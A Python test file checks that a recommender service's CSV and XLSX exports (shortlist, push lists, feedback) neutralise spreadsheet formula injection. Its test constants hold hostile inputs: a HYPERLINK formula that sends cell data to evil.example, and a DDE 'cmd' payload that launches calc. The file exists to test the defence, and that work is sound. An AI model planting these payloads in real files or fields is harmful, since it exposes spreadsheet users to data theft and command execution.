"""The files brokers download (shortlist and push lists, feedback: web and CLI) carry no formula from user
text: a hostile title, enterprise name or note is read back from the real file as text, scores as numbers."""

from __future__ import annotations

import csv
import io
import time

import openpyxl
from conftest import Workbench
from sqlalchemy import select
from test_web_pages import post
from webtools import cli

from recommender.spreadsheet import FORMULA_STARTS
from service.core.jobs import get_job
from service.core.models import JobRow
from service.core.partners import upsert_enterprises

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"高镍三元正极材料包覆改性")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "+1-1 已约见"


def assert_no_formula_cells(book: openpyxl.Workbook) -> int:
    """Every cell of every sheet is a value, never a formula; returns how many text cells were checked."""
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate, cell.value)
                    checked += 1
    return checked


def test_downloads_neutralise_formulas(workbench: Workbench, tmp_path):
    api, key = workbench.app_client, workbench.broker_key
    with workbench.services.sessions() as session:
        upsert_enterprises(session, [{"id": "E9", "name": NAME, "region": "江苏省"}])
    assert api.post("/results", json={"id": "RX", "title": TITLE, "abstract": "高镍三元正极材料包覆改性提高循环寿命",
                                      "field": "新能源", "trl": 7, "ip_status": "granted"},
                    headers=key).status_code == 201
    need = {"id": "NX", "title": "-高镍正极材料循环寿命", "enterprise": "E9", "description": "三元正极材料包覆改性"}
    assert api.post("/needs", json=need, headers=key).status_code == 201
    client = workbench.client("broker")
    total = api.get("/results", headers=key).json()["total"]
    assert post(client, "/web/shortlist", {"top": str(total)}, page="/web/shortlist").status_code == 303
    with workbench.services.sessions() as session:
        job_id = session.scalar(select(JobRow.id).order_by(JobRow.created_at.desc()))
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        with workbench.services.sessions() as session:
            if not get_job(session, job_id).active:
                break
        time.sleep(0.2)

    rows = list(csv.reader(io.StringIO(client.get("/web/shortlist.csv").content.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    hostile = next(r for r in body if r[header.index("result_id")] == "RX")
    assert hostile[header.index("title")] == "'" + TITLE
    for row in body:
        for name, cell in zip(header, row, strict=True):
            if name not in ("rank", "score", "market_pull", "readiness", "trl"):
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
        float(row[header.index("score")])  # a number, as written

    book = openpyxl.load_workbook(io.BytesIO(client.get("/web/shortlist.xlsx").content))
    assert assert_no_formula_cells(book) > 10
    push = book["push"]
    columns = [c.value for c in push[1]]
    names = [r[columns.index("target_name")] for r in push.iter_rows(min_row=2, values_only=True)]
    assert "'" + NAME in names  # the hostile enterprise is on RX's push list, as text
    assert all(isinstance(r[columns.index("target_score")], float)
               for r in push.iter_rows(min_row=2, values_only=True))

    assert post(client, "/web/feedback", {"need_id": "NX", "result_id": "RX", "outcome": "contacted", "note": NOTE},
                page="/web/needs/NX").status_code == 303
    feedback_csv = list(csv.DictReader(io.StringIO(client.get("/web/feedback.csv").content.decode("utf-8"),
                                                   newline="")))
    assert [r["note"] for r in feedback_csv if r["need_id"] == "NX"] == ["'" + NOTE]
    book = openpyxl.load_workbook(io.BytesIO(client.get("/web/feedback.xlsx").content))
    assert assert_no_formula_cells(book) >= 5
    out = tmp_path / "feedback.xlsx"
    cli("feedback", "export", "--out", str(out), "--db", workbench.settings.resolved_database_url)
    book = openpyxl.load_workbook(out)
    assert assert_no_formula_cells(book) >= 5
    assert "'" + NOTE in [c.value for c in book["feedback"]["D"]]
    enterprise = workbench.client("ent1")
    assert enterprise.get("/web/feedback.csv").status_code == 403  # brokers only
